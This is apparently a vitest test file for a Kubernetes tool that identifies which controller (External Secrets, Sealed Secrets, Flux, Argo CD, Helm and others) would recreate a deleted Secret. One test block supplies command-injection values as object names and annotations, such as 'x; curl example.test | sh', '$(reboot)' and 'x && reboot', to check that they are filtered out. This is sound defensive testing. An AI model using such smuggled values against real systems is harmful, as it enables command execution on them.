// Who would bring a Secret back: owner references first, then field managers, then labels and annotations, tool by tool.
import { describe, expect, it } from 'vitest';
import { type Owner, ownersOf, restorers } from '../../../src/domain/kubernetes/managed-by.ts';
import type { Meta } from '../../../src/domain/kubernetes/objects.ts';
import { type List, OWNING_KINDS, standing } from '../../../src/domain/kubernetes/still-there.ts';

const secret = (meta: Partial<Meta>): Meta => ({
  name: 'checkout-token',
  namespace: 'payments',
  uid: 'u',
  ...meta,
});
const reference = (apiVersion: string, kind: string, name = 'checkout'): Partial<Meta> => ({
  ownerReferences: [{ apiVersion, kind, name, uid: 'o' }],
});
const manager = (...names: string[]): Partial<Meta> => ({
  managedFields: names.map((name) => ({ manager: name, operation: 'Update' })),
});
const told = (meta: Partial<Meta>): string[] =>
  ownersOf(secret(meta)).map(
    ({ tool, by, of }) => `${tool} by ${by}${of ? `: ${of.kind} ${of.namespace ?? ''}/${of.name}` : ''}`,
  );

const REFLECTOR = 'reflector.v1.k8s.emberstack.com';
const ESO = 'externalsecrets.external-secrets.io/checkout-token';

describe('who would bring a Secret back', () => {
  it.each<[string, Partial<Meta>, string[]]>([
    ['nobody', {}, []],
    [
      'External Secrets, as recorded',
      { ...reference('external-secrets.io/v1', 'ExternalSecret', 'checkout-token'), ...manager(ESO) },
      ['External Secrets by owner reference: ExternalSecret /checkout-token'],
    ],
    [
      'External Secrets of an old version',
      reference('external-secrets.io/v1beta1', 'ExternalSecret'),
      ['External Secrets by owner reference: ExternalSecret /checkout'],
    ],
    [
      'External Secrets without an owner reference (Orphan)',
      manager('kubectl', ESO),
      ['External Secrets by field manager: ExternalSecret /checkout-token'],
    ],
    [
      'External Secrets by its label alone',
      { labels: { 'reconcile.external-secrets.io/managed': 'true' } },
      ['External Secrets by labels and annotations'],
    ],
    [
      'Sealed Secrets, as recorded',
      { ...reference('bitnami.com/v1alpha1', 'SealedSecret', 'checkout-token'), ...manager('controller') },
      ['Sealed Secrets by owner reference: SealedSecret /checkout-token'],
    ],
    [
      'Sealed Secrets without an owner reference',
      manager('controller'),
      ['Sealed Secrets by field manager: SealedSecret /checkout-token'],
    ],
    [
      'Sealed Secrets by its annotation',
      { annotations: { 'sealedsecrets.bitnami.com/managed': 'true' } },
      ['Sealed Secrets by labels and annotations: SealedSecret /checkout-token'],
    ],
    [
      'Vault Secrets Operator, which names no controller',
      {
        ...reference('secrets.hashicorp.com/v1beta1', 'VaultStaticSecret'),
        labels: { 'secrets.hashicorp.com/vso-ownerRefUID': 'o' },
      },
      ['Vault Secrets Operator by owner reference: VaultStaticSecret /checkout'],
    ],
    [
      'Vault Secrets Operator by its label',
      { labels: { 'secrets.hashicorp.com/vso-ownerRefUID': 'o' } },
      ['Vault Secrets Operator by labels and annotations'],
    ],
    ['Flux by its field manager alone', manager('kustomize-controller'), ['Flux by field manager']],
    [
      'Flux, which says whose it is by labels',
      {
        ...manager('kustomize-controller'),
        labels: {
          'kustomize.toolkit.fluxcd.io/name': 'apps',
          'kustomize.toolkit.fluxcd.io/namespace': 'flux-system',
        },
      },
      ['Flux by field manager: Kustomization flux-system/apps'],
    ],
    [
      'Flux by its labels, and not Helm, which it uses',
      {
        labels: {
          'helm.toolkit.fluxcd.io/name': 'shop',
          'helm.toolkit.fluxcd.io/namespace': 'shop',
          'app.kubernetes.io/managed-by': 'Helm',
        },
      },
      ['Flux by labels and annotations: HelmRelease shop/shop'],
    ],
    [
      'Argo CD by its tracking annotation',
      { annotations: { 'argocd.argoproj.io/tracking-id': 'shop:/Secret:payments/checkout-token' } },
      ['Argo CD by labels and annotations: Application /shop'],
    ],
    [
      'nobody, where the tracking annotation is of another object and was copied',
      {
        annotations: {
          'argocd.argoproj.io/tracking-id': 'shop:external-secrets.io/ExternalSecret:payments/x',
        },
      },
      [],
    ],
    ['Argo CD by its field manager', manager('argocd-controller'), ['Argo CD by field manager']],
    [
      'Argo CD by its instance label',
      { labels: { 'argocd.argoproj.io/instance': 'shop' } },
      ['Argo CD by labels and annotations: Application /shop'],
    ],
    [
      'Helm, as recorded',
      {
        ...manager('helm'),
        annotations: { 'meta.helm.sh/release-name': 'shop', 'meta.helm.sh/release-namespace': 'payments' },
      },
      ['Helm by field manager: release payments/shop'],
    ],
    [
      'Helm by its annotations',
      { annotations: { 'meta.helm.sh/release-name': 'shop' } },
      ['Helm by labels and annotations: release /shop'],
    ],
    ['nobody, where it is merely labelled', { labels: { 'app.kubernetes.io/managed-by': 'Helm' } }, []],
    ['nobody, where it has the labels of an app', { labels: { 'app.kubernetes.io/instance': 'shop' } }, []],
    [
      'Crossplane by owner reference',
      reference('kubernetes.crossplane.io/v1alpha2', 'Object'),
      ['Crossplane by owner reference: Object /checkout'],
    ],
    [
      'Crossplane by its field manager',
      {
        ...manager('apiextensions.crossplane.io/composed/ef08e4'),
        labels: { 'crossplane.io/composite': 'shop' },
      },
      ['Crossplane by field manager: composite resource /shop'],
    ],
    [
      'Reflector, which made it by itself',
      { annotations: { [`${REFLECTOR}/auto-reflects`]: 'True', [`${REFLECTOR}/reflects`]: 'vault/token' } },
      ['Reflector by labels and annotations: Secret vault/token'],
    ],
    [
      'nobody, where a person made it for Reflector to fill',
      { annotations: { [`${REFLECTOR}/reflects`]: 'vault/token' } },
      [],
    ],
    [
      'nobody, where Reflector only reads it',
      { annotations: { [`${REFLECTOR}/reflection-allowed`]: 'true' } },
      [],
    ],
    [
      'a controller that nobody knows',
      reference('cluster.x-k8s.io/v1beta1', 'Cluster'),
      ['the controller of Cluster by owner reference: Cluster /checkout'],
    ],
    ['nobody, where Kubernetes itself removes it with its owner', reference('v1', 'ServiceAccount'), []],
    ['nobody, where a Job owns it', reference('batch/v1', 'Job'), []],
    [
      'nobody, where people and the token controller wrote it',
      manager('kubectl', 'kube-controller-manager'),
      [],
    ],
    ['nobody, where a backup was restored, which nobody repeats', manager('velero-server'), []],
    [
      'the owner alone, whose own labels were copied to it',
      {
        ...reference('external-secrets.io/v1', 'ExternalSecret'),
        annotations: { 'meta.helm.sh/release-name': 'shop', 'meta.helm.sh/release-namespace': 'payments' },
      },
      ['External Secrets by owner reference: ExternalSecret /checkout'],
    ],
    [
      'two, of whom one owns and another applies it',
      { ...reference('bitnami.com/v1alpha1', 'SealedSecret'), ...manager('argocd-controller') },
      ['Sealed Secrets by owner reference: SealedSecret /checkout', 'Argo CD by field manager'],
    ],
  ])('%s', (_, meta, expected) => {
    expect(told(meta)).toEqual(expected);
  });

  it('are all named where one tool has two, of which one may be gone', () => {
    const [one] = reference('external-secrets.io/v1', 'ExternalSecret').ownerReferences ?? [];
    if (one === undefined) throw new Error('none');
    expect(
      told({ ownerReferences: [one, one, { ...one, name: 'other' }], ...manager('external-secrets') }),
    ).toEqual([
      'External Secrets by owner reference: ExternalSecret /checkout',
      'External Secrets by owner reference: ExternalSecret /other',
    ]);
  });

  it.each<[string, Partial<Meta>, string[]]>([
    [
      'a name that is none',
      reference('external-secrets.io/v1', 'ExternalSecret', 'x; curl example.test | sh'),
      ['External Secrets by owner reference'],
    ],
    [
      'a kind that is none',
      reference('example.test/v1', '$(reboot)', 'x'),
      ['an unknown controller by owner reference'],
    ],
    [
      'a manager that names no object',
      manager('externalsecrets.external-secrets.io/`reboot`'),
      ['External Secrets by field manager'],
    ],
    [
      'a release that is none',
      { annotations: { 'meta.helm.sh/release-name': 'x && reboot' } },
      ['Helm by labels and annotations'],
    ],
    [
      'a namespace that is none',
      { annotations: { 'meta.helm.sh/release-name': 'x', 'meta.helm.sh/release-namespace': 'a b' } },
      ['Helm by labels and annotations'],
    ],
  ])('is named without %s, because commands are made of it', (_, meta, expected) => {
    expect(told(meta)).toEqual(expected);
  });

  it('names a backup tool among those that write it, and not among its owners', () => {
    expect(restorers(['velero-server', 'argocd-controller'])).toEqual(['Argo CD', 'Velero']);
  });
});

describe('an owner', () => {
  const eso: Owner = {
    tool: 'External Secrets',
    by: 'owner reference',
    of: { group: 'external-secrets.io', version: 'v1', kind: 'ExternalSecret', name: 'checkout' },
  };
  const answering =
    (...answers: ReturnType<List> extends Promise<infer T> ? T[] : never): List =>
    async () =>
      answers.shift();

  it('that is gone brings nothing back', async () => {
    expect(await standing([eso], 'payments', answering([]))).toEqual([]);
  });

  it('that was made anew under its name still does', async () => {
    const found = [{ metadata: secret({ name: 'checkout', uid: 'another' }) }];
    expect(await standing([eso], 'payments', answering(found))).toEqual([{ ...eso, stands: 'seen' }]);
  });

  it('is asked for in every version that it may be served in, and believed to be there where none tells', async () => {
    const asked: string[] = [];
    const left = await standing([eso], 'payments', async ({ resource, namespace, fieldSelector }) => {
      asked.push(`${resource.group}/${resource.version} ${resource.plural} ${namespace} ${fieldSelector}`);
      return undefined;
    });
    expect(asked).toEqual([
      'external-secrets.io/v1 externalsecrets payments metadata.name=checkout',
      'external-secrets.io/v1beta1 externalsecrets payments metadata.name=checkout',
    ]);
    expect(left).toEqual([{ ...eso, stands: 'unknown' }]);
  });

  it('that somebody else keeps says who', async () => {
    const found = [
      { metadata: secret({ annotations: { 'meta.helm.sh/release-name': 'shop' }, name: 'checkout' }) },
    ];
    expect(await standing([eso], 'payments', answering(found))).toMatchObject([{ keptBy: ['Helm'] }]);
  });

  it('is not looked for where somebody wrote very many', async () => {
    const many = Array.from({ length: 5000 }, (_, index) => ({
      ...eso,
      of: { ...eso.of, name: `e-${index}` },
    }));
    let asked = 0;
    const left = await standing(many as Owner[], 'payments', async () => {
      asked += 1;
      return [];
    });
    expect(asked).toBe(0);
    expect(left.length).toBeGreaterThan(0);
    expect(left.length).toBeLessThan(20);
    expect(left.every(({ stands }) => stands === 'unknown')).toBe(true);
  });

  it('of a kind that is not looked for is believed to be there', async () => {
    const flux: Owner = { tool: 'Flux', by: 'field manager' };
    const never: List = () => Promise.reject(new Error('asked'));
    expect(await standing([flux], 'payments', never)).toEqual([{ ...flux, stands: 'unknown' }]);
  });

  it.each(
    OWNING_KINDS.flatMap(({ group, versions, kinds }) =>
      Object.entries(kinds).map(([kind, plural]) => [kind, group, versions[0] ?? '', plural] as const),
    ),
  )('that is a %s is looked for', async (kind, group, version, plural) => {
    const owner: Owner = { tool: 'any', by: 'owner reference', of: { group, version, kind, name: 'x' } };
    const asked: unknown[] = [];
    await standing([owner], 'payments', async ({ resource }) => {
      asked.push(resource);
      return [];
    });
    expect(asked).toEqual([{ group, version, plural, namespaced: true }]);
  });
});
